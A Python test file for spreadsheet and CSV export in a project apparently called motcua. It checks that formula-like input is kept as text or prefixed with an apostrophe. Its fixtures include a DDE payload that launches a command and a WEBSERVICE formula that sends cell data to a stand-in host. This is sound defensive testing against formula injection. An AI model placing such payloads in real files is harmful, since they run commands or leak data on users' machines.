"""Exported workbooks keep typed text as text (motcua/spreadsheets.py)."""

import io

from openpyxl import Workbook, load_workbook

from motcua.spreadsheets import workbook_bytes


def test_every_sheet_keeps_a_leading_equals_sign_as_text_and_numbers_as_numbers():
    book = Workbook()
    book.active.append(["=cmd|' /C calc'!A0", 12, "+84 912", "Bình thường"])
    book.create_sheet("Hai").append(['=WEBSERVICE("http://x.example/?"&A1)'])
    saved = load_workbook(io.BytesIO(workbook_bytes(book)))
    first, second = saved.worksheets
    assert [c.value for c in first[1]] == ["=cmd|' /C calc'!A0", 12, "+84 912", "Bình thường"]
    assert [c.data_type for c in first[1]] == ["s", "n", "s", "s"]
    assert second["A1"].value == '=WEBSERVICE("http://x.example/?"&A1)'
    assert second["A1"].data_type == "s"


def test_a_csv_row_writes_what_would_open_as_a_formula_as_text_and_numbers_as_numbers():
    from motcua.spreadsheets import csv_cells

    row = ["=1+2", "+84 912", "-2+3", "@SUM(A1)", "\t=A1", "Bình thường", "", -3.5, 12, None]
    assert csv_cells(row) == ["'=1+2", "'+84 912", "'-2+3", "'@SUM(A1)", "'\t=A1",
                              "Bình thường", "", -3.5, 12, None]
